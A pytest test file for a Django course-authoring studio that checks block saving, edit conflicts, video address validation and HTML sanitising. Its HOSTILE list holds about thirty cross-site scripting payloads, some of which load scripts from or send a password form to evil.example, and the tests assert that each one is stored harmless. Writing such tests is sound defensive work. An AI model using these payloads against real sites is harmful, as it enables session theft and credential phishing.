import html as entities
import uuid
from html.parser import HTMLParser

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from courses.models import Block, Draft
from courses.studio import editing, removing
from courses.studio.bilingual import RichTextField
from courses.studio.block_forms import youtube_id
from lms.html import ATTRIBUTES, TAGS, clean_html
from tests.factories import both, make_person

pytestmark = pytest.mark.django_db


@pytest.fixture
def block(draft):
    return draft.modules.get().lessons.first().blocks.get()


@pytest.fixture
def to(block, url):
    return url("studio:block", block.lesson.uuid, block.uuid)


def words(english, base="1", **more):
    return {"base": base, "body_en": english, "body_es": "<p>Texto.</p>", **more}


def test_saving_counts_the_block_and_the_draft(studio, block, to, trainer):
    answer = studio.post(to, words("<p>New <strong>words</strong>.</p>", done="1"))

    assert answer.status_code == 303
    assert answer["Location"].endswith(f"#block-{block.uuid}")
    block.refresh_from_db()
    assert block.body == {"en": "<p>New <strong>words</strong>.</p>", "es": "<p>Texto.</p>"}
    draft = Draft.objects.get()
    assert (block.revision, draft.revision, draft.changed_by) == (2, 2, trainer)


def test_saving_the_same_again_is_no_change_and_no_conflict(studio, block, to):
    """An answer was lost on its way: the browser sends the same words from the same base again."""
    for _ in range(3):
        assert studio.post(to, words("<p>Once.</p>")).status_code == 303

    block.refresh_from_db()
    assert (block.revision, Draft.objects.get().revision) == (2, 2)


def test_saving_what_nobody_touched_changes_nothing(studio, block, to):
    """Browsers send lines with CR LF and forms strip the end: neither is a change."""
    block.body = {"en": "<p>One.</p>\n<p>Two.</p>\n", "es": "<p>Uno.</p>\n"}
    block.save()
    form = studio.get(to).context["form"]
    sent = {name: form[name].value().replace("\n", "\r\n") for name in form.fields}

    assert studio.post(to, sent).status_code == 303

    block.refresh_from_db()
    assert block.revision == 1
    assert block.body["en"] == "<p>One.</p>\n<p>Two.</p>\n"


def test_a_conflict_shows_what_differs_and_nothing_else(studio, block, to):
    block.body = {"en": "<p>One.</p>\n", "es": "<p>Uno.</p>\n<p>Dos.</p>\n"}
    block.save()
    form = studio.get(to).context["form"]
    mine = {name: form[name].value().replace("\n", "\r\n") for name in form.fields}
    studio.post(to, {**mine, "body_en": "<p>Theirs.</p>"})

    answer = studio.post(to, {**mine, "body_en": "<p>Mine.</p>"})

    assert [one.label for one in answer.context["conflict"]["differences"]] == ["Text (English)"]


def test_a_stale_save_is_refused_with_both_texts_and_nothing_is_lost(studio, block, to):
    studio.post(to, words("<p>Theirs.</p>"))

    answer = studio.post(to, words("<p>Mine &amp; long.</p>"))

    html = answer.content.decode()
    assert answer.status_code == 422
    assert "<p>Theirs.</p>" in html
    assert entities.escape("<p>Mine &amp; long.</p>") in html
    block.refresh_from_db()
    assert block.body["en"] == "<p>Theirs.</p>"


def test_sending_the_refused_form_again_never_writes_over_by_itself(studio, block, to):
    studio.post(to, words("<p>Theirs.</p>"))
    answer = studio.post(to, words("<p>Mine.</p>"))
    form = answer.context["form"]

    again = studio.post(to, words("<p>Mine.</p>", base=form["base"].value()))
    assert again.status_code == 422

    mark = answer.context["conflict"]["mark"]
    assert studio.post(to, words("<p>Mine.</p>", replace=mark)).status_code == 303
    block.refresh_from_db()
    assert block.body["en"] == "<p>Mine.</p>"


def test_keeping_mine_is_refused_when_a_third_text_came(studio, block, to):
    studio.post(to, words("<p>Theirs.</p>"))
    mark = studio.post(to, words("<p>Mine.</p>")).context["conflict"]["mark"]
    studio.post(to, words("<p>Third.</p>", base="2"))

    answer = studio.post(to, words("<p>Mine.</p>", replace=mark))

    assert answer.status_code == 422
    assert "<p>Third.</p>" in answer.content.decode()


def test_the_editor_saves_by_itself_and_is_told_its_new_base(studio, block, to, htmx):
    answer = studio.post(to, words("<p>Typed.</p>"), headers=htmx)

    html = answer.content.decode()
    assert answer.status_code == 200
    assert "Saved " in html
    assert f'id="base-{block.uuid}" value="2" hx-swap-oob="true"' in html
    assert "<form" not in html
    assert "HX-Retarget" not in answer


def test_a_conflict_of_the_editor_leaves_what_stands_in_it_alone(studio, block, to, htmx):
    studio.post(to, words("<p>Theirs.</p>"))

    answer = studio.post(to, words("<p>Mine.</p>"), headers=htmx)

    html = answer.content.decode()
    assert answer.status_code == 422
    assert "HX-Retarget" not in answer
    assert "gw-conflict" in html
    assert "<p>Theirs.</p>" in html
    assert "<textarea" not in html


def test_closing_the_editor_swaps_in_the_block_as_it_reads(studio, block, to, htmx):
    answer = studio.post(to, words("<p>Done.</p>", done="1"), headers=htmx)

    html = answer.content.decode()
    assert answer["HX-Retarget"] == f"#block-{block.uuid}"
    assert answer["HX-Reswap"] == "outerHTML"
    assert html.lstrip().startswith('<li class="gw-block"')
    assert "<p>Done.</p>" in html


def test_a_block_is_added_once_and_opens_in_its_editor(studio, block, url, htmx):
    to = url("studio:add-block", block.lesson.uuid)
    sent = {"key": str(uuid.uuid4()), "kind": "callout"}

    first = studio.post(to, sent, headers=htmx)
    second = studio.post(to, sent)

    made = Block.objects.get(uuid=sent["key"])
    assert (made.kind, made.position, Block.objects.count()) == ("callout", 2, 2)
    html = first.content.decode()
    assert f'id="block-{made.uuid}"' in html
    assert 'id="new-block-key"' in html
    assert sent["key"] not in html.partition('id="new-block-key"')[0][-60:]
    assert second["Location"] == url("studio:block", block.lesson.uuid, made.uuid)


def test_moving_keeps_open_editors_where_they_are(studio, block, url, htmx):
    second = Block.objects.create(lesson=block.lesson, kind="text", body=both("x"), position=2)
    sent = {"move": f"block:{second.uuid}:{block.uuid}", "open": [str(block.uuid)]}

    answer = studio.post(url("studio:arrange-lesson", block.lesson.uuid), sent, headers=htmx)

    html = answer.content.decode()
    assert f'<li id="block-{block.uuid}" hx-preserve>' in html
    assert "It is now number 1 of 2." in html
    assert list(block.lesson.blocks.order_by("position")) == [second, block]


def test_a_details_block_needs_the_line_it_opens_by(studio, block, url):
    block.lesson.blocks.update(kind="details")
    to = url("studio:block", block.lesson.uuid, block.uuid)

    answer = studio.post(to, words("<p>Kept as typed.</p>"))

    assert answer.status_code == 422
    assert entities.escape("<p>Kept as typed.</p>") in answer.content.decode()


@pytest.mark.parametrize(
    ("address", "settings", "body"),
    [
        (
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=3s",
            {"provider": "youtube", "id": "dQw4w9WgXcQ"},
            {},
        ),
        ("https://youtu.be/dQw4w9WgXcQ", {"provider": "youtube", "id": "dQw4w9WgXcQ"}, {}),
        ("/media/films/one.mp4", {}, {"en": "/media/films/one.mp4"}),
    ],
)
def test_a_video_by_provider_or_on_this_site(studio, block, url, address, settings, body):
    Block.objects.update(kind="video", body={}, settings={"made": "by hand"})
    to = url("studio:block", block.lesson.uuid, block.uuid)
    sent = {"base": "1", "title_en": "A film", "address": address, "captions_es": "/media/es.vtt"}

    assert studio.post(to, sent).status_code == 303

    block.refresh_from_db()
    assert block.body == body
    assert block.settings == {"made": "by hand", "captions": {"es": "/media/es.vtt"}, **settings}
    shown = studio.get(url("studio:preview-lesson", block.lesson.slug)).content.decode()
    assert (settings.get("id") or body["en"]) in shown


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "//evil.example/x.mp4",
        "http://youtu.be/dQw4w9WgXcQ",
        "https://evil.example/watch?v=dQw4w9WgXcQ",
        "https://youtube.com.evil.example/embed/dQw4w9WgXcQ",
        "https://youtu.be/<script>",
        "data:text/html,x",
    ],
)
def test_other_addresses_are_no_video(studio, block, url, address):
    Block.objects.update(kind="video", body={})
    to = url("studio:block", block.lesson.uuid, block.uuid)

    answer = studio.post(to, {"base": "1", "title_en": "A film", "address": address})

    assert answer.status_code == 422
    assert youtube_id(address) == ""
    assert entities.escape(address) in answer.content.decode()


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<p onclick=alert(1) style='position:fixed' class='usa-button' id='main'>x</p>",
    "<p data-hx-get='/me/' hx-get='/me/' hx-trigger='load'>x</p>",
    "<form action='//evil.example'><input name=password><button>Go</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<object data='x'></object><embed src='x'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p><textarea></p><script>alert(1)</script></textarea>",
    "<!--<img src='--><img src=x onerror=alert(1)>-->",
    "<a href='https://ok.example' target=_blank ping='//evil.example' download>x</a>",
    "<table><td background='javascript:alert(1)'>x",
    "<p>nul\0<scr\0ipt>alert(1)</scr\0ipt></p>",
    "<gw-rich-text editor='//evil.example/x.js'></gw-rich-text>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
]


class Look(HTMLParser):
    """Everything in a piece of HTML that could act."""

    def __init__(self):
        super().__init__()
        self.bad = []

    def handle_starttag(self, tag, attributes):
        if tag not in TAGS:
            self.bad.append(tag)
        for name, value in attributes:
            if name not in ATTRIBUTES.get(tag, []):
                self.bad.append(f"{tag} {name}")
            if name == "href" and ":" in value and not value.startswith(("http", "mailto")):
                self.bad.append(value)

    def handle_comment(self, data):
        self.bad.append(data)


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_html_is_stored_harmless(studio, block, to, url, payload):
    sent = words(f"<p>Before</p>{payload}<p>After</p>".replace("\0", ""))
    if "\0" in payload:
        refused = studio.post(to, words(payload))
        assert refused.status_code == 422  # said, not silently changed
    assert studio.post(to, sent).status_code == 303

    block.refresh_from_db()
    stored = block.body["en"]
    look = Look()
    look.feed(stored)
    assert look.bad == []
    assert "Before" in stored
    assert clean_html(stored) == stored
    page = studio.get(url("studio:lesson", block.lesson.uuid)).content.decode()
    assert stored in page


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("One.\n\nTwo **bold**.", "<p>One.</p>\n<p>Two <strong>bold</strong>.</p>"),
        ("5 < 6 & 7 > 2", "<p>5 &lt; 6 &amp; 7 &gt; 2</p>"),
        ("<p></p>", ""),
        ("<p>&nbsp;</p>", ""),
        ("", ""),
        ("<hr>", "<hr>"),
        (
            "<table><caption>C</caption><thead><tr><th scope='col'>A</th></tr></thead></table>",
            '<table><caption>C</caption><thead><tr><th scope="col">A</th></tr></thead></table>',
        ),
    ],
)
def test_text_without_tags_is_markdown_and_empty_is_empty(typed, stored):
    assert RichTextField(required=False).clean(typed) == stored


def test_a_block_whose_lesson_went_is_not_found(studio, block, to, draft, trainer):
    removing.delete(draft, block, by=trainer)

    assert studio.post(to, words("<p>x</p>")).status_code == 404


def test_an_unpublished_edit_reaches_no_learner(studio, block, to, client):
    from django.urls import reverse

    from courses.publishing import publish
    from tests.factories import enrolled

    draft = Draft.objects.get()
    course = publish(draft, by=None, policy="update").course
    learner = make_person()
    enrolled(learner, course)
    studio.post(to, words("<p>Not yet.</p>"))

    client.force_login(learner)
    page = client.get(reverse("courses:lesson", args=[course.slug, block.lesson.slug]))
    assert "Not yet." not in page.content.decode()
    assert "Words." in page.content.decode()


@pytest.mark.parametrize("count", [1, 5])
def test_the_lesson_page_costs_the_same_for_any_number_of_blocks(count, studio, block, url):
    for position in range(count):
        Block.objects.create(lesson=block.lesson, body=both("<p>x</p>"), position=position)

    with CaptureQueriesContext(connection) as asked:
        assert studio.get(url("studio:lesson", block.lesson.uuid)).status_code == 200
    assert len(asked) == 6  # session, user, draft, lesson, blocks, comments


def test_the_address_of_a_film_is_no_html_where_it_is_about_to_be_deleted(studio, draft, url):
    """It is no HTML anywhere, so nothing cleaned it."""
    lesson = draft.modules.get().lessons.first()
    film = lesson.blocks.create(kind="video", title=both("Film"), position=2)
    typed = "/<form action=/x>Give me your code</form>"
    to = url("studio:block", lesson.uuid, film.uuid)
    saved = studio.post(to, {"base": "1", "title_en": "Film", "address": typed, "done": "1"})
    assert saved.status_code == 303

    html = studio.get(url("studio:delete-block", lesson.uuid, film.uuid)).content.decode()

    assert "<form action=/x>" not in html
    assert "&lt;form action=/x&gt;" in html


@pytest.mark.parametrize("act", ["add", "move"])
def test_a_lesson_or_block_deleted_a_moment_ago_is_said(act, studio, block, url, monkeypatch):
    real = editing.hold
    gone = block.lesson if act == "add" else block

    def held_late(draft):
        type(gone).objects.filter(pk=gone.pk).delete()
        return real(draft)

    monkeypatch.setattr(editing, "hold", held_late)
    if act == "add":
        sent = {"key": uuid.uuid4(), "kind": "text"}
        answer = studio.post(url("studio:add-block", block.lesson.uuid), sent)
    else:
        sent = {"move": f"block:{block.uuid}:"}
        answer = studio.post(url("studio:arrange-lesson", block.lesson.uuid), sent)

    assert answer.status_code == 422
    assert "Someone else deleted this a moment ago." in answer.content.decode()
